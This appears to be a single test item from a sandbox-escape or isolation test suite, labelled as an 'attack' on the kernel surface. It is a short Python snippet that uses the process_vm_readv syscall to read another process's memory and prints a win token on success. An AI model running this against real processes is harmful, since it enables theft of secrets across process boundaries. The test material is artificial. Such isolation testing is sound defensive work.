# id: ks_other_memory
# kind: attack
# category: kernel-surface
# machine: x86_64
# note: read the memory of another process
import ctypes
b = ctypes.create_string_buffer(16)
maps = open('/proc/%d/maps' % VICTIM_PID).readline().split('-')[0]
v = (ctypes.c_uint64 * 4)(ctypes.addressof(b), 16, int(maps, 16), 16)
if ctypes.CDLL(None).syscall(310, VICTIM_PID, v, 1, ctypes.byref(v, 16), 1, 0) == 16:
    print(WIN_TOKEN)
